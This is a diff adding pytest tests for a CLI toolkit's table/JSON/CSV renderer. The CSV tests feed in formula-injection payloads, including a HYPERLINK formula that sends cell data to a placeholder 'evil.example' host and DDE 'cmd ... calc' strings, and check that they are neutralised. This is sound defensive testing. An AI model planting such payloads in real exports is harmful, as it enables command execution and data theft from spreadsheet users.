@@ -1,0 +1,217 @@
+"""The one renderer: table for people, --json for scripts, --csv for spreadsheets."""
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import enum
+import io
+import json
+from dataclasses import dataclass
+from pathlib import PurePosixPath
+
+import pytest
+
+from opskit.core.errors import EXIT_FINDINGS, EXIT_OK
+from opskit.core.output import (FORMATS, Result, Table, csv_safe, dumps, render, render_csv,
+                                render_table, to_jsonable)
+
+
+class Level(enum.Enum):
+    LOW = "low"
+    HIGH = "high"
+
+
+@dataclass
+class Finding:
+    rule: str
+    level: Level
+    at: dt.datetime
+
+
+HOSTS = Table(
+    columns=["host", "reachable", "users", "note"],
+    rows=[{"host": "db1", "reachable": True, "users": ["alice", "bob"], "note": None},
+          {"host": "web2", "reachable": False, "users": [], "note": "disk 91%"}],
+    title="Hosts",
+)
+
+
+def rendered(result: Result, fmt: str) -> str:
+    out = io.StringIO()
+    render(result, fmt, out)
+    return out.getvalue()
+
+
+def test_formats_are_the_documented_three():
+    assert FORMATS == ("table", "json", "csv")
+
+
+# --- table -----------------------------------------------------------------------
+
+def test_table_has_title_headers_and_rows():
+    lines = render_table(HOSTS).splitlines()
+    assert lines[0] == "Hosts"
+    assert lines[1].split() == ["HOST", "REACHABLE", "USERS", "NOTE"]
+    assert set(lines[2].replace(" ", "")) == {"-"}
+    assert lines[3].split() == ["db1", "yes", "alice,", "bob", "-"]
+    assert lines[4].split() == ["web2", "no", "disk", "91%"]
+    assert len(lines) == 5
+
+
+def test_table_columns_line_up():
+    lines = render_table(HOSTS).splitlines()[1:]
+    start = lines[0].index("REACHABLE")
+    assert lines[2][start:].startswith("yes") and lines[3][start:].startswith("no")
+
+
+def test_table_custom_headers_and_column_order():
+    table = Table(columns=["b", "a_key"], rows=[{"a_key": 1, "b": 2, "ignored": 3}],
+                  headers={"b": "Bee"})
+    head, _rule, row = render_table(table).splitlines()
+    assert head.split() == ["Bee", "A", "KEY"]
+    assert row.split() == ["2", "1"]
+    assert "ignored" not in render_table(table) and "3" not in row
+
+
+def test_table_keeps_strings_that_look_like_numbers():
+    table = Table(columns=["uid", "mode"], rows=[{"uid": "007", "mode": "0600"}])
+    assert render_table(table).splitlines()[-1].split() == ["007", "0600"]
+
+
+def test_empty_table_says_none():
+    assert render_table(Table(columns=["x"], rows=[], title="Drift")) == "Drift\n(none)"
+    assert render_table(Table(columns=["x"], rows=[])) == "(none)"
+
+
+def test_render_table_format_puts_messages_after_tables():
+    result = Result(tables=[HOSTS, Table(columns=["x"], rows=[], title="Other")],
+                    messages=["2 hosts checked", "1 unreachable"], summary="sum")
+    text = rendered(result, "table")
+    assert text.endswith("\n\nOther\n(none)\n\n2 hosts checked\n1 unreachable\n")
+    assert text.startswith("Hosts\n")
+    assert "sum" not in text
+
+
+def test_render_table_format_messages_only_and_summary_only():
+    assert rendered(Result(messages=["one", "two"]), "table") == "one\ntwo\n"
+    assert rendered(Result(summary="backup ok: 3 files"), "table") == "backup ok: 3 files\n"
+    assert rendered(Result(), "table") == ""
+
+
+# --- json ------------------------------------------------------------------------
+
+def test_json_prints_data_when_given():
+    result = Result(data={"ok": True, "count": 2}, tables=[HOSTS], messages=["ignored"])
+    text = rendered(result, "json")
+    assert json.loads(text) == {"ok": True, "count": 2}
+    assert text.endswith("}\n") and "ignored" not in text
+
+
+def test_json_falls_back_to_tables_by_title():
+    result = Result(tables=[HOSTS, Table(columns=["x"], rows=[{"x": 1}])])
+    payload = json.loads(rendered(result, "json"))
+    assert payload == {"Hosts": HOSTS.rows, "table1": [{"x": 1}]}
+    assert payload["Hosts"][0]["note"] is None and payload["Hosts"][0]["reachable"] is True
+
+
+def test_json_converts_rich_types():
+    when = dt.datetime(2024, 5, 6, 7, 8, 9, tzinfo=dt.timezone.utc)
+    data = {"finding": Finding("R-ACC-6", Level.HIGH, when), "raw": b"\xff\x00ok",
+            "path": PurePosixPath("/srv/data"), "set": {1}, "tuple": (1, "a"), 3: "int key"}
+    assert to_jsonable(data) == {
+        "finding": {"rule": "R-ACC-6", "level": "high", "at": "2024-05-06T07:08:09+00:00"},
+        "raw": "\\xff\x00ok", "path": "/srv/data", "set": [1], "tuple": [1, "a"], "3": "int key"}
+    assert json.loads(dumps(data))["finding"]["level"] == "high"
+
+
+def test_json_keeps_unicode_and_order():
+    text = dumps({"zeta": "Jörg", "alpha": "社保"})
+    assert "Jörg" in text and "社保" in text
+    assert text.index("zeta") < text.index("alpha")
+
+
+def test_json_of_empty_result_is_an_empty_object():
+    assert json.loads(rendered(Result(), "json")) == {}
+
+
+# --- csv -------------------------------------------------------------------------
+
+def _parse_csv(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text)))
+
+
+def test_csv_has_header_and_rows():
+    text = rendered(Result(tables=[HOSTS], messages=["not in csv"]), "csv")
+    rows = _parse_csv(text)
+    assert rows[0] == ["host", "reachable", "users", "note"]
+    assert [r[0] for r in rows[1:]] == ["db1", "web2"]
+    assert rows[1][3] == "" and rows[2][3] == "disk 91%"
+    assert "not in csv" not in text
+
+
+def test_csv_quotes_commas_quotes_and_newlines():
+    table = Table(columns=["a", "b"], rows=[{"a": 'say "hi", then', "b": "line1\nline2"}])
+    rows = _parse_csv(render_csv([table]))
+    assert rows[1] == ['say "hi", then', "line1\nline2"]
+
+
+def test_csv_tables_are_separated_by_a_blank_line():
+    text = render_csv([Table(columns=["a"], rows=[{"a": 1}]), Table(columns=["b"], rows=[{"b": 2}])])
+    assert text.splitlines() == ["a", "1", "", "b", "2"]
+
+
+def test_csv_carriage_return_inside_a_cell_cannot_start_a_new_row():
+    table = Table(columns=["user", "comment"], rows=[{"user": "mallory", "comment": "ok\r=cmd|' /C calc'!A0"}])
+    text = render_csv([table])
+    rows = _parse_csv(text)
+    assert rows == [["user", "comment"], ["mallory", "ok\r=cmd|' /C calc'!A0"]]
+    assert '"ok\r=cmd' in text          # quoted: the CR stays inside the cell
+
+
+@pytest.mark.parametrize("cell", [
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+])
+def test_csv_neutralises_formula_injection(cell):
+    assert csv_safe(cell) == "'" + cell
+    table = Table(columns=["user", "comment"], rows=[{"user": "mallory", "comment": cell}])
+    rows = _parse_csv(render_csv([table]))
+    assert rows[1][1] == "'" + cell
+    assert not rows[1][1].startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+@pytest.mark.parametrize("cell", ["alice", "a=b", "1+1", "user@example.org", "", " spaced", "'quoted"])
+def test_csv_leaves_harmless_cells_alone(cell):
+    assert csv_safe(cell) == cell
+
+
+def test_csv_safe_handles_non_strings():
+    assert csv_safe(None) == ""
+    assert csv_safe(42) == "42"
+    assert csv_safe(Level.LOW) == "low"
+    assert csv_safe(dt.datetime(2024, 1, 2, 3, 4, 5)) == "2024-01-02T03:04:05"
+
+
+def test_csv_neutralises_every_row_and_column():
+    rows = [{"a": "=x", "b": "ok"}, {"a": "ok", "b": "@y"}]
+    parsed = _parse_csv(render_csv([Table(columns=["a", "b"], rows=rows)]))
+    assert parsed[1:] == [["'=x", "ok"], ["ok", "'@y"]]
+
+
+def test_empty_result_has_empty_csv():
+    assert rendered(Result(), "csv") == ""
+    assert rendered(Result(tables=[Table(columns=["a", "b"], rows=[])]), "csv").splitlines() == ["a,b"]
+
+
+# --- the Result itself -------------------------------------------------------------
+
+def test_result_defaults():
+    result = Result()
+    assert result.exit_code == EXIT_OK and result.tables == [] and result.messages == []
+    assert Result(exit_code=EXIT_FINDINGS).exit_code == 1
